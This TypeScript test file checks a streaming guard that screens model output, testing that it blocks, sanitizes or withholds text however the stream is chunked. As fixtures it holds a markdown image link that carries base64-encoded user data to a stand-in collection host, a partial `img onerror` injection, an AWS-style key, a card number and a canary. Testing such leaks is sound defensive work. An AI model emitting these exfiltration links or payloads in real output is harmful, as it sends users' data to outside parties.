import { describe, expect, it } from 'vitest';
import fc from '../../test/fast-check.js';
import { createWordGuard } from '../../test/word-guard.js';
import { PRESETS } from '../policy/presets.js';
import { toCanary } from '../session/canary.js';
import { createMemoryStore } from '../session/memory-store.js';
import { createGuard, type Guard } from './create-guard.js';
import { findHoldPoint, MAX_HOLD, TAIL } from './hold-back.js';

async function* toChunks(chunks: readonly string[]): AsyncGenerator<string> {
  yield* chunks;
}

async function collect(guard: Guard, chunks: readonly string[], session = 's') {
  const stream = guard.onOutputStream(session, toChunks(chunks));
  const shown: string[] = [];
  for await (const chunk of stream) shown.push(chunk);
  return { shown, text: shown.join(''), decision: await stream.decision };
}

/** A text cut at these places. */
const cutAt = (text: string, places: readonly number[]): string[] => {
  const points = [0, ...places.map((place) => place % (text.length + 1)).sort((a, b) => a - b), text.length];
  return points.slice(1).map((end, i) => text.slice(points[i], end));
};

const PROSE = 'The harbour was quiet that morning, and the boats lay still under a thin fog. '.repeat(12);

describe('a stream', () => {
  it('passes harmless text on as it arrives', async () => {
    const chunks = PROSE.match(/.{1,17}/gs)!;
    const { shown, text, decision } = await collect(createWordGuard(), chunks);
    expect(text).toBe(PROSE);
    expect(shown.length).toBeGreaterThan(1);
    expect(decision).toMatchObject({ action: 'allow', content: PROSE });
  });

  it('decides the same for any chunks, and shows nothing of stopped text', async () => {
    const guard = createWordGuard();
    const cases = fc.record({
      before: fc.integer({ min: 0, max: 900 }),
      after: fc.integer({ min: 0, max: 900 }),
      cuts: fc.array(fc.nat(2000), { maxLength: 40 }),
    });
    await fc.assert(
      fc.asyncProperty(cases, async ({ before, after, cuts }) => {
        const start = PROSE.slice(0, before);
        const { text, decision } = await collect(guard, cutAt(`${start} BLOCK${PROSE.slice(0, after)}`, cuts));
        expect(decision.action).toBe('block');
        expect(`${start} `.startsWith(text)).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it('removes whole passages, wherever the chunks are cut', async () => {
    const guard = createWordGuard();
    const text = `${PROSE.slice(0, 400)} SANITIZE ${PROSE.slice(0, 400)}`;
    const cleaned = text.replace('SANITIZE', '[removed]');
    for (let cut = 395; cut <= 415; cut++) {
      const { text: shown, decision } = await collect(guard, cutAt(text, [cut]));
      expect(shown).toBe(cleaned);
      expect(decision).toMatchObject({ action: 'sanitize', content: cleaned, removed: 1 });
    }
    expect((await collect(guard, [...text])).text).toBe(cleaned);
  });

  it('holds back no more than necessary', async () => {
    let received = 0;
    let shown = 0;
    let most = 0;
    async function* source(): AsyncGenerator<string> {
      for (let i = 0; i < 400; i++) {
        received += 50;
        yield 'twelve words or so in each of these many parts    ';
        most = Math.max(most, received - shown);
      }
    }
    for await (const chunk of createWordGuard().onOutputStream('s', source())) shown += chunk.length;
    expect(shown).toBe(received);
    expect(most).toBeLessThan(4 * TAIL);
  });

  it('holds an endless word up to the limit and then releases it', async () => {
    const word = 'x'.repeat(3 * MAX_HOLD);
    const { shown, text } = await collect(createWordGuard(), word.match(/.{1,100}/g)!);
    expect(text).toBe(word);
    expect(Math.max(...shown.map((chunk) => chunk.length))).toBeLessThan(2 * MAX_HOLD);
  });

  it('ends if the session is under quarantine, and is recorded as an event', async () => {
    const store = createMemoryStore();
    const guard = createWordGuard({ store });
    await collect(guard, ['Hello ', 'there']);
    expect((await store.load('s'))!.state.log.recent).toMatchObject([{ kind: 'output', length: 11, action: 'allow' }]);
    await guard.onPrompt('s', 'INCIDENT');
    expect(await collect(guard, [PROSE, PROSE])).toMatchObject({ text: '', decision: { action: 'block' } });
  });

  it('throws at its end with throwOnBlock, after the earlier text was shown', async () => {
    const guard = createWordGuard({ throwOnBlock: true });
    const stream = guard.onOutputStream('s', toChunks([PROSE, ' BLOCK']));
    await expect(
      (async () => {
        for await (const _ of stream);
      })(),
    ).rejects.toMatchObject({ code: 'guard-block' });
    expect((await stream.decision).action).toBe('block');
  });

  it('ends at once when it is aborted, even if its source hangs, and closes the source', async () => {
    const controller = new AbortController();
    let isClosed = false;
    const source: AsyncIterable<string> = {
      [Symbol.asyncIterator]: () => ({
        next: () => new Promise<never>(() => {}),
        return: async () => {
          isClosed = true;
          return { done: true, value: undefined };
        },
      }),
    };
    const stream = createWordGuard().onOutputStream('s', source, { signal: controller.signal });
    const reading = stream[Symbol.asyncIterator]().next();
    controller.abort(new Error('enough'));
    await expect(reading).rejects.toThrow('enough');
    await expect(stream.decision).rejects.toThrow('enough');
    expect(isClosed).toBe(true);
  });

  it('passes on an error of its source, and rejects chunks that are not strings', async () => {
    const guard = createWordGuard();
    async function* broken(): AsyncGenerator<string> {
      yield 'hello';
      throw new Error('connection lost');
    }
    const read = async (source: AsyncIterable<string>) => {
      for await (const _ of guard.onOutputStream('s', source));
    };
    await expect(read(broken())).rejects.toThrow('connection lost');
    await expect(read(toChunks([{} as string]))).rejects.toMatchObject({ code: 'bad-input' });
  });
});

describe('with a small window, a stream', () => {
  it('shows the first words after a few characters, and stops the same passages', async () => {
    const guard = createWordGuard({ stream: { window: 16 } });
    let received = 0;
    async function* source(): AsyncGenerator<string> {
      for (const word of PROSE.match(/\S+\s*/g)!) {
        received += word.length;
        yield word;
      }
    }
    const first = await guard.onOutputStream('s', source())[Symbol.asyncIterator]().next();
    expect(first.value).toMatch(/^The/);
    expect(received).toBeLessThan(48);
    for (const size of [1, 3, 40]) {
      const text = `${PROSE.slice(0, 300)} BLOCK and more. ${PROSE}`;
      const { text: shown, decision } = await collect(guard, text.match(new RegExp(`.{1,${size}}`, 'gs'))!);
      expect(decision.action).toBe('block');
      expect(text.slice(0, 301).startsWith(shown)).toBe(true);
    }
  });

  it.each([
    ['![a picture of the sea](https://collect.example/p?d=', 0],
    ['see [the page](https://collect.example/p?d=', 4],
    ['<img src=x alt="a b" onerror=', 0],
    ['pay to 4111 1111 1111 ', 7],
    ['account DE89 3704 0044 05', 8],
  ])('does not cut %j', (end, start) => {
    const text = `${PROSE.slice(0, 78)}${end}`;
    expect(findHoldPoint(text, 4)).toBe(78 + start);
    expect(findHoldPoint(`${text.slice(0, 78)}words and more words`, 4)).toBeGreaterThan(78);
  });

  it('has limits', () => {
    for (const stream of [{ window: -1 }, { window: 5000 }, { stride: 0 }, { window: 1.5 }]) {
      expect(() => createWordGuard({ stream }), JSON.stringify(stream)).toThrow('"window" must be');
    }
  });
});

describe('with the real scanners, a stream', () => {
  const KEY = `AKIA${'QYLPMN5HHHFPZAM2'}`;
  const guard = createGuard({
    policy: { ...PRESETS.balanced, classifier: 'off', rules: { 'leak/secret': 'sanitize' } },
    skip: ['embedding-similarity'],
    behavior: { secret: 'k' },
  });

  it('shows nothing of a canary, an address with data in it or a key, wherever it is cut', async () => {
    const canary = toCanary('k', 's');
    const image = '![ok](https://collect.example/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgd2l0aCBtYW55IHdvcmRz)';
    for (const [secret, isStopped] of [
      [canary, true],
      [image, true],
      [KEY, false],
    ] as const) {
      const text = `${PROSE.slice(0, 290)} ${secret} and then ${PROSE.slice(0, 310)}`;
      for (let cut = 289; cut <= 295 + secret.length; cut += 7) {
        const { text: shown, decision } = await collect(guard, cutAt(text, [cut, cut + 3]));
        await guard.release('s');
        expect(decision.action).toBe(isStopped ? 'incident' : 'sanitize');
        expect(shown).not.toContain(secret.slice(0, 6));
        expect(shown.includes('and then')).toBe(!isStopped);
      }
      await collect(guard, [...text]).then(({ text: shown }) => expect(shown).not.toContain(secret.slice(0, 6)));
      await guard.release('s');
    }
  });
});
